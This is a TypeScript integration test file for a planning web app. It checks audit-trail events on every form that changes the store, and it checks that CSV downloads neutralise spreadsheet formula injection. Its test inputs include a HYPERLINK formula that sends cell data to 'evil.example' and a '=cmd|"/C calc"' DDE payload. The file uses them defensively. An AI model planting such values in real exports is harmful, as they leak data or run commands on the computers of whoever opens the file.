/**
 * The audit trail records every change: every form the app shows, sent as a person would, that
 * changes the store must leave an event saying who, when, what, and the record before and after.
 * (The file imports record theirs too: test/integration/import and api/workspace.)
 */
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { Database } from '../../../src/db/open.ts'
import { listAudit, recordAudit } from '../../../src/db/repos/audit.ts'
import { spreadsheetSafe } from '../../../src/web/http/spreadsheet.ts'
import { readForms } from '../../fuzz/harness.ts'
import { postForm, TODAY } from '../../helpers/web.ts'
import { pageForms, routeWorld, typedInto } from './fixtures.ts'

/** Everything the store holds but sessions (every request touches them) and the trail itself. */
function content(db: Database): string {
  const tables = db
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
    .pluck()
    .all() as string[]
  return tables
    .filter((name) => !['sessions', 'audit_events', 'store_revision'].includes(name))
    .map((name) => JSON.stringify(db.prepare(`SELECT * FROM "${name}"`).all()))
    .join('\n')
}

/** The registered route ("POST /users/:id/role") a request path is answered by. */
function routeOf(routes: string[], path: string): string {
  const key = routes.find((k) => {
    const [method, pattern] = k.split(' ') as [string, string]
    const re = pattern.replace(/:\w+\{([^}]*)\}/g, '($1)').replace(/:\w+/g, '[^/]+')
    return method === 'POST' && new RegExp(`^${re}$`).test(path)
  })
  return key ?? `POST ${path}`
}

/** Actions whose record is a secret: who reset whose password is kept, the password never. */
const NO_VALUES = new Set(['user.password_reset'])

describe('the audit trail', () => {
  it('records who, when, what, before and after for every form that changes the store', async () => {
    const { t, routes } = await routeWorld()
    const admin = t.as('admin')
    const adminId = t.user('admin').id
    const forms = await pageForms(t)
    const audited = new Set<string>()
    const wrong: string[] = []
    const done = new Set<string>()
    for (const { page, action } of forms) {
      if (done.has(action) || action.endsWith('/logout')) continue
      done.add(action)
      // the form as it stands now: earlier saves move versions on
      const html = await (await t.get(page, 'admin')).text()
      const form = readForms(html).find((f) => f.action === action)
      if (!form) continue
      const before = content(t.db)
      const last = listAudit(t.db, {}, 1)[0]?.id ?? 0
      await postForm(t.app, action, new URLSearchParams(typedInto(action, form.body)), admin)
      if (content(t.db) === before) continue
      const route = routeOf(routes, action)
      const events = listAudit(t.db).filter((e) => e.id > last)
      if (events.length === 0) wrong.push(`${route}: changed the store, no audit event`)
      for (const e of events) {
        if (e.userId !== adminId) wrong.push(`${route}: ${e.action} names user ${e.userId}`)
        if (e.at !== TODAY.toISOString()) wrong.push(`${route}: ${e.action} at ${e.at}`)
        if (!e.entityType || !e.entityId) wrong.push(`${route}: ${e.action} names no record`)
        if (!NO_VALUES.has(e.action) && e.before === null && e.after === null) {
          wrong.push(`${route}: ${e.action} has neither before nor after`)
        }
      }
      audited.add(route)
    }
    expect(wrong).toEqual([])
    expect([...audited].sort()).toEqual([
      'POST /approvals/:id/decide',
      'POST /assumptions/:planId',
      'POST /bands/:bandId',
      'POST /positions',
      'POST /positions/:id',
      'POST /rates/:setId',
      'POST /recruiting/loops/:loopId',
      'POST /recruiting/pools/:poolId',
      'POST /recruiting/roles/:id',
      'POST /recruiting/roles/:id/sponsorship',
      'POST /recruiting/settings',
      'POST /recruiting/time-to-fill',
      'POST /scenarios',
      'POST /scenarios/:id/:edit{roles|add|remove}',
      'POST /scenarios/:id/assumptions',
      'POST /tokens',
      'POST /users',
      'POST /users/:id/:change{disable|enable}',
      'POST /users/:id/password',
      'POST /users/:id/role',
    ])
  })
})

describe('CSV downloads', () => {
  it('writes typed text that a spreadsheet would run as a formula with a leading apostrophe', () => {
    for (const formula of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1']) {
      expect(spreadsheetSafe(formula)).toBe(`'${formula}`)
    }
    // text, and plain numbers (a negative amount runs nothing)
    for (const text of [
      'Grace Whitfield',
      '2027-01-15T12:00:00.000Z',
      '{"title":"=1"}',
      '',
      '-1500.00',
    ]) {
      expect(spreadsheetSafe(text)).toBe(text)
    }
  })

  it('downloads a change by a person named like a formula with the name made text', async () => {
    const { t } = await routeWorld()
    const admin = t.user('admin')
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    t.db.prepare('UPDATE users SET name = ? WHERE id = ?').run(name, admin.id)
    const res = await postForm(t.app, '/scenarios', { name: '@SUM(A1:A9)' }, t.as('admin'))
    expect(res.status).toBe(303)
    const csv = await (await t.get('/audit.csv', 'admin')).text()
    const [header, newest] = parse(csv) as string[][]
    const cell = (column: string) => newest![header!.indexOf(column)]
    expect(cell('Action')).toBe('Created a scenario')
    expect(cell('Who')).toBe(`'${name}`)
    // the record by its typed name, made text; the change list starts with the field's name
    expect(cell('Record')).toContain("'@SUM(A1:A9)")
    expect(cell('Changes')).toMatch(/^Name: .*@SUM\(A1:A9\)/)
    // every cell of every row is safe
    for (const row of parse(csv) as string[][]) {
      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  it('downloads the trail in words: people, records and teams by name, changes as before -> after, no ids', async () => {
    const { t } = await routeWorld()
    const admin = t.user('admin')
    recordAudit(
      t.db,
      {
        userId: admin.id,
        action: 'position.update',
        entityType: 'position',
        entityId: 'p-002',
        teamId: 'circuits',
        before: { teamId: 'interpretability', baseSalary: '345000.00' },
        after: { teamId: 'circuits', baseSalary: '355000.00' },
      },
      TODAY,
    )
    const csv = await (await t.get('/audit.csv', 'admin')).text()
    const [header, newest] = parse(csv) as string[][]
    expect(header).toEqual(['When', 'Who', 'Action', 'Record', 'Team', 'Changes'])
    const cell = (column: string) => newest![header!.indexOf(column)]!
    expect(cell('Team')).toBe('Circuits')
    expect(cell('Changes')).toContain('Team: Interpretability -> Circuits')
    expect(cell('Changes')).toContain('345000.00 -> 355000.00')
    for (const id of [admin.id, 'p-002', '"teamId"']) expect(csv).not.toContain(id)
  })

  it("write a role titled like a formula as text in the projection's line download", async () => {
    const { t } = await routeWorld()
    const title = '=cmd|"/C calc"!A0'
    const role = {
      title,
      teamId: 'interpretability',
      officeId: 'london',
      familyId: 'research-engineer',
      levelId: 'l4',
      baseSalary: '60000',
      bonusPercent: '0',
      status: 'open',
      reason: 'net_new',
      startDate: '2027-07-01',
    }
    // leadership's new roles apply at once
    expect((await postForm(t.app, '/positions', role, t.as('leadership'))).status).toBe(303)
    const csv = await (await t.get('/api/v1/plans/fy2027/projection.csv', 'leadership')).text()
    const rows = parse(csv, { columns: true }) as Record<string, string>[]
    const lines = rows.filter((r) => r.title?.includes('cmd|'))
    expect(lines.length).toBeGreaterThan(0)
    for (const line of lines) expect(line.title).toBe(`'${title}`)
  })
})
